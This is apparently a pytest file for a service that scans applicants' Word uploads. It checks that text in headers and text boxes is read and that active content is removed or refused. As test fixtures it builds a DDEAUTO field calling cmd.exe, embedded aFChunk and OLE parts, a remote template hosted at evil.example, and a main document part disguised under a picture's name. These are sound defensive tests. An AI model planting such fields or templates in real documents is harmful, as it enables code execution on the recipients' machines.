"""Word files as other programs write them: all their words are read, and no other spelling hides what is active."""

from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from applicants.inspection.word import STRICT
from applicants.services.scanning import check_file
from tests.applicants.test_rewriting import RELATIONS, changed, field, members_of, word_file

__all__ = ["word_file"]

MC = "http://schemas.openxmlformats.org/markup-compatibility/2006"
BOX = "<w:txbxContent><w:p><w:r><w:t>Boxed words</w:t></w:r></w:p></w:txbxContent>"


def beginning(xml: str) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)


def relation(kind: str, target: str) -> Callable[[bytes], bytes]:
    entry = f'<Relationship Id="rId99" Type="{RELATIONS}/{kind}" Target="{target}"/></Relationships>'
    return lambda part: part.replace(b"</Relationships>", entry.encode())


def test_the_name_in_the_header_is_read(word_file: Path) -> None:
    document = docx.Document(str(word_file))
    document.sections[0].header.paragraphs[0].text = "Name on top"
    document.save(str(word_file))

    assert check_file(word_file).text.startswith("Name on top")


def test_a_text_box_is_read_once_and_words_are_kept_apart(word_file: Path) -> None:
    box = f'<mc:AlternateContent xmlns:mc="{MC}"><mc:Choice>{BOX}</mc:Choice><mc:Fallback>{BOX}</mc:Fallback>'
    words = "<w:t>Ann</w:t><w:noBreakHyphen/><w:t>Lee</w:t><w:cr/><w:t>Next</w:t>"
    xml = f"<w:p><w:r>{box}</mc:AlternateContent>{words}</w:r></w:p>"

    text = check_file(changed(word_file, word__document_dot_xml=beginning(xml))).text

    assert text.splitlines()[:2] == ["Ann-Lee Next", "Boxed words"]
    assert text.count("Boxed words") == 1


def test_a_strict_file_is_read_and_its_fields_are_made_harmless(word_file: Path) -> None:
    changed(word_file, word__document_dot_xml=beginning(field("DDEAUTO c:\\cmd.exe")))
    strict = {usual: name for name, usual in STRICT.items()}

    def renamed(part: bytes) -> bytes:
        for usual, name in strict.items():
            part = part.replace(usual, name)
        return part

    parts = {name.replace("/", "__").replace(".", "_dot_"): renamed for name in
             ("word/document.xml", "word/_rels/document.xml.rels", "_rels/.rels")}  # fmt: skip
    verdict = check_file(changed(word_file, **parts))

    assert (verdict.verdict, "Robin Reyes" in verdict.text) == ("accept", True)
    assert b"DDE" not in members_of(verdict.rewritten)["word/document.xml"]


@pytest.mark.parametrize(("kind", "target"), [("aFChunk", "chunk.xml"), ("oleObject", "objects/x.xml")])
def test_a_file_inside_under_another_name_is_refused(word_file: Path, kind: str, target: str) -> None:
    changed(word_file, word___rels__document_dot_xml_dot_rels=relation(kind, target))

    assert check_file(word_file).reason == "active_content"


def test_a_remote_template_is_found_in_capital_letters(word_file: Path) -> None:
    entry = relation("attachedTemplate", 'https://evil.example/t.dotm" TargetMode="External')
    changed(word_file, word___rels__settings_dot_xml_dot_RELS=entry(b"<Relationships></Relationships>"))

    assert check_file(word_file).reason == "active_content"


@pytest.mark.parametrize("part", ["_rels___dot_rels", "[Content_Types]_dot_xml"])
def test_what_is_shown_is_what_was_read(word_file: Path, part: str) -> None:
    """A main part elsewhere, or text under the name of a picture."""
    changed(word_file, **{part: lambda content: content.replace(b"word/document.xml", b"word/me.png")})

    assert check_file(word_file).reason == "active_content"
